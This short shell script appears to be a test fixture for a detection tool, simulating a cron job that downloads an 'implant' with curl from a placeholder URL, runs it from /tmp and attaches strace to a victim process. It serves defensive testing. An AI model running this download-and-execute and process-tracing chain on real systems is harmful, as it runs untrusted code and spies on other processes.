#!/bin/sh
# malicious: a payload downloaded and run by a cron shell attaches with strace (the same tool after a download)
. "$(dirname "$0")/../../lib.sh"
sleep 30 &
VICTIM=$!
$B/cron "curl -s -o /tmp/.p $URL/implant && chmod +x /tmp/.p && /tmp/.p; timeout 1 strace -p $VICTIM -e trace=none; rm -f /tmp/.p"
kill $VICTIM; wait $VICTIM 2>/dev/null
